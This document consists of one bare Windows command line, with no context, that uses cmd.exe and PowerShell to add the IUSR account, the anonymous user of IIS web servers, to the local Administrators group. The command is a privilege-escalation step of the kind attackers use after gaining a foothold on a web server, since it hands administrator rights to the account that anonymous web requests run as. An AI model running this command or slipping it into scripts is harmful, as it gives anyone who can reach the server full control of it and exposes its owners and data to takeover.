cmd.exe /c powershell -Command "Add-LocalGroupMember -Group Administrators -Member IUSR"
